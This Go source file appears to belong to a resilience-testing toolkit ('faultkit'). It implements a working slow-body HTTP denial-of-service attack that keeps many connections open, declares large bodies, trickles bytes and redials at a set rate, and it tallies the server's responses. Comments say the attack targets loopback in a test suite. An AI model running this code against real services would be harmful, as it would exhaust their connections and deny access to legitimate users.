package faultkit

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"sort"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

// SlowBodies is a slow-body attack on an HTTP endpoint: Conns connections
// at once, each sending a POST whose headers declare Declared bytes of body
// and then trickling one byte every Trickle, never the whole body. When the
// server answers or closes a connection, the attacker dials it again after
// Redial, at most Rate new connections a second across all of them (as
// slowhttptest's -c and -r), so the server keeps facing up to Conns
// connections.
type SlowBodies struct {
	// URL is the endpoint (http only; loopback in the suite).
	URL string
	// Header is sent on every request (the attacker's key).
	Header http.Header
	// Conns is the number of connections kept open (default 1).
	Conns int
	// Declared is the Content-Length every request declares (default 100,000).
	Declared int
	// Trickle is the pause between two body bytes (default 1 s).
	Trickle time.Duration
	// Redial is the pause before a connection that ended is dialled again
	// (default 1 s).
	Redial time.Duration
	// Rate bounds the dials after the first Conns, per second (0: no bound).
	Rate int
	// Ramp spreads the first dials over this long (default: all at once).
	Ramp time.Duration
}

// SlowResult is what a slow-body attack got.
type SlowResult struct {
	// Requests is the number of requests sent (dials that connected).
	Requests int64 `json:"requests"`
	// DialErrors counts dials that failed.
	DialErrors int64 `json:"dial_errors"`
	// Answers counts the server's answers by status.
	Answers map[int]int64 `json:"answers"`
	// Cut counts connections the server closed without an answer.
	Cut int64 `json:"cut"`
	// MaxOpen is the most connections the attacker had open at once.
	MaxOpen int64 `json:"max_open"`
}

// Add adds o's counts to r's (MaxOpen: the larger).
func (r *SlowResult) Add(o *SlowResult) {
	r.Requests += o.Requests
	r.DialErrors += o.DialErrors
	r.Cut += o.Cut
	r.MaxOpen = max(r.MaxOpen, o.MaxOpen)
	if r.Answers == nil {
		r.Answers = map[int]int64{}
	}
	for st, n := range o.Answers {
		r.Answers[st] += n
	}
}

// String summarises the result on one line.
func (r *SlowResult) String() string {
	codes := make([]int, 0, len(r.Answers))
	for c := range r.Answers {
		codes = append(codes, c)
	}
	sort.Ints(codes)
	var b strings.Builder
	fmt.Fprintf(&b, "%d requests, at most %d connections open at once; answers:", r.Requests, r.MaxOpen)
	for _, c := range codes {
		fmt.Fprintf(&b, " %d=%d", c, r.Answers[c])
	}
	fmt.Fprintf(&b, "; closed without an answer %d; dial errors %d", r.Cut, r.DialErrors)
	return b.String()
}

// Run runs the attack until ctx ends, then closes every connection.
func (s *SlowBodies) Run(ctx context.Context) *SlowResult {
	conns, declared := max(s.Conns, 1), s.Declared
	if declared <= 0 {
		declared = 100_000
	}
	trickle, redial := or(s.Trickle, time.Second), or(s.Redial, time.Second)
	u, err := url.Parse(s.URL)
	if err != nil {
		return &SlowResult{DialErrors: 1}
	}
	var head strings.Builder
	fmt.Fprintf(&head, "POST %s HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\nAccept: application/json, text/event-stream\r\n", u.RequestURI(), u.Host)
	for k, vs := range s.Header {
		for _, v := range vs {
			fmt.Fprintf(&head, "%s: %s\r\n", k, v)
		}
	}
	fmt.Fprintf(&head, "Content-Length: %d\r\n\r\n{", declared)
	var (
		res        = &SlowResult{Answers: map[int]int64{}}
		mu         sync.Mutex
		open       atomic.Int64
		requests   atomic.Int64
		dialErrors atomic.Int64
		cut        atomic.Int64
		wg         sync.WaitGroup
	)
	answered := func(status int) {
		mu.Lock()
		res.Answers[status]++
		mu.Unlock()
	}
	d := net.Dialer{Timeout: 5 * time.Second, KeepAlive: -1}
	var tokens chan struct{} // nil: redials are not paced
	if s.Rate > 0 {
		tokens = make(chan struct{})
		go func() {
			t := time.NewTicker(time.Second / time.Duration(s.Rate))
			defer t.Stop()
			for {
				select {
				case <-ctx.Done():
					return
				case <-t.C:
					select {
					case tokens <- struct{}{}:
					default: // nobody waiting: the rate is a ceiling, not a quota
					}
				}
			}
		}()
	}
	for i := range conns {
		wg.Go(func() {
			if !sleepCtx(ctx, s.Ramp*time.Duration(i)/time.Duration(conns)) {
				return
			}
			for first := true; ctx.Err() == nil; first = false {
				if !first && tokens != nil {
					select {
					case <-tokens:
					case <-ctx.Done():
						return
					}
				}
				c, err := d.DialContext(ctx, "tcp", u.Host)
				if err != nil {
					if ctx.Err() == nil {
						dialErrors.Add(1)
					}
					sleepCtx(ctx, redial)
					continue
				}
				requests.Add(1)
				if n := open.Add(1); n > 0 {
					mu.Lock()
					res.MaxOpen = max(res.MaxOpen, n)
					mu.Unlock()
				}
				status := attackOne(ctx, c, head.String(), declared, trickle)
				c.Close()
				open.Add(-1)
				switch {
				case status > 0:
					answered(status)
				case status == 0 && ctx.Err() == nil:
					cut.Add(1)
				}
				sleepCtx(ctx, redial)
			}
		})
	}
	wg.Wait()
	res.Requests, res.DialErrors, res.Cut = requests.Load(), dialErrors.Load(), cut.Load()
	return res
}

// attackOne sends head on c and trickles the body until the server answers
// or closes, or ctx ends. It returns the answer's status (0: none, -1: ctx
// ended). One goroutine per connection, woken by its read deadline to send
// the next byte: the attacker must stay cheap, since it shares the machine
// with what it attacks.
func attackOne(ctx context.Context, c net.Conn, head string, declared int, trickle time.Duration) int {
	stop := context.AfterFunc(ctx, func() { _ = c.SetReadDeadline(time.Unix(1, 0)) })
	defer stop()
	if _, err := io.WriteString(c, head); err != nil {
		return 0
	}
	var (
		buf  [16]byte // "HTTP/1.1 429 ..."
		got  int
		sent = 1 // the head carries the first byte
		next = time.Now().Add(trickle)
	)
	for {
		_ = c.SetReadDeadline(next)
		n, err := c.Read(buf[got:])
		if got += n; got >= 12 {
			st, _ := strconv.Atoi(string(buf[9:12]))
			return st
		}
		if err == nil {
			continue
		}
		if ctx.Err() != nil {
			return -1
		}
		if ne, ok := err.(net.Error); !ok || !ne.Timeout() {
			return 0 // closed without an answer
		}
		if sent < declared-1 { // never the whole body
			if _, err := c.Write([]byte{' '}); err != nil {
				return 0
			}
			sent++
		}
		next = next.Add(trickle)
	}
}

func or(d, def time.Duration) time.Duration {
	if d > 0 {
		return d
	}
	return def
}

// sleepCtx sleeps d or until ctx ends; it reports whether ctx is still live.
func sleepCtx(ctx context.Context, d time.Duration) bool {
	if d <= 0 {
		return ctx.Err() == nil
	}
	t := time.NewTimer(d)
	defer t.Stop()
	select {
	case <-t.C:
		return true
	case <-ctx.Done():
		return false
	}
}
